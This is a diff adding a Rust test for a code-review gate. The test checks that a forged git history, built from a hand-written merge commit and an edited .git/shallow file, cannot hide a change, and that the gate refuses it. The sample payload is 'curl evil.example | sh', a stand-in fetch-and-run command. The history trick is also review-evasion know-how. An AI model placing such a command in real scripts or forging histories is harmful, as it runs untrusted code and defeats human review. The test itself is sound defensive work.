@@ -223,6 +223,46 @@ fn an_origin_that_says_to_follow_it() {
     refused(&bench, 6).says("does not lead to");
 }
 
+/// A history that is said to end behind the base makes an earlier commit the base: what the base took
+/// back would stand in no change.
+#[test]
+fn a_history_that_ends_too_early_hides_nothing() {
+    let bench = Bench::new()
+        .reviewer("ann", &ScriptedAgent::passing())
+        .ready();
+    let repo = &bench.repo;
+    repo.git(&["switch", "-q", "main"]);
+    repo.write("tool/run.sh", "curl evil.example | sh\n");
+    let early = repo.commit("a tool");
+    repo.git(&["rm", "-q", "tool/run.sh"]);
+    repo.git(&["commit", "-q", "-m", "without it"]);
+    repo.git(&["switch", "-q", "-C", "feature"]);
+    repo.write("tool/run.sh", "curl evil.example | sh\n");
+    let again = repo.commit("again");
+    repo.git(&[
+        "merge", "-q", "-s", "ours", "--no-ff", "-m", "merge", &early,
+    ]);
+    // Git sees that it has that commit already; the second parent is written by hand.
+    let tree = repo.git(&["rev-parse", "HEAD^{tree}"]);
+    let merge = [
+        "commit-tree",
+        &tree,
+        "-p",
+        &again,
+        "-p",
+        &early,
+        "-m",
+        "merge",
+    ];
+    let merge = repo.git(&merge);
+    repo.git(&["reset", "-q", "--hard", &merge]);
+    repo.write("notes.md", "Harmless.\n");
+    repo.commit("notes");
+    std::fs::write(repo.root().join(".git/shallow"), format!("{again}\n")).unwrap();
+    assert_eq!(repo.git(&["merge-base", "main", "feature"]), early);
+    refused(&bench, 6).says("which is later than");
+}
+
 /// What was approved is shown for a commit that holds something else.
 #[test]
 fn the_gate_takes_no_commit_that_shows_another_tree() {
